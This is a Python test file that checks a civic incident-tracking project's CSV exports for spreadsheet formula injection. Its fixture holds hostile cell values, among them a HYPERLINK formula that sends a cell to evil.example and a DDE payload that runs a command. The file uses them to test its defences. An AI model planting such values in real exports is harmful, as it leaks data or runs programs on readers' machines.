"""No CSV the project writes carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from civicspace.incidents.export import iter_incidents, write
from civicspace.settings import Settings
from civicspace.store.incidents import Incident
from civicspace.web.app import create_app

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "+1+1",
}


@pytest.fixture
def client(engine: Engine) -> Iterator[TestClient]:
    with Session(engine) as session:
        session.add(
            Incident(
                **EVIL,
                public_title=EVIL["title"],
                public_summary=EVIL["summary"],
                country="KE",
                start_date=date(2026, 1, 2),
                violations=["killing"],
                targets=["journalists"],
                perpetrators=["police"],
                state="published",
                published_at=datetime(2026, 1, 3, tzinfo=UTC),
            )
        )
        session.commit()
    with TestClient(create_app(Settings(database_url=str(engine.url)), engine)) as c:
        yield c


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "@", "+")), cell


@pytest.mark.parametrize("name", ["incidents.csv", "incidents-acled.csv"])
def test_public_csv_exports_neutralise_formulas(client: TestClient, name: str) -> None:
    response = client.get(f"/api/v1/exports/{name}")
    assert response.status_code == 200
    cells = _cells(response.text)
    assert any(c.startswith("'=HYPERLINK") for c in cells) or name.endswith("acled.csv")
    _assert_safe(cells)


def test_the_incident_dataset_csv_neutralises_formulas(engine: Engine) -> None:
    with Session(engine) as session:
        session.add(Incident(**EVIL, country="KE", state="accepted"))
        session.commit()
        out = io.StringIO()
        assert write(iter_incidents(session), out, "csv") == 1
    cells = _cells(out.getvalue())
    assert "'" + EVIL["title"] in cells
    _assert_safe(cells)
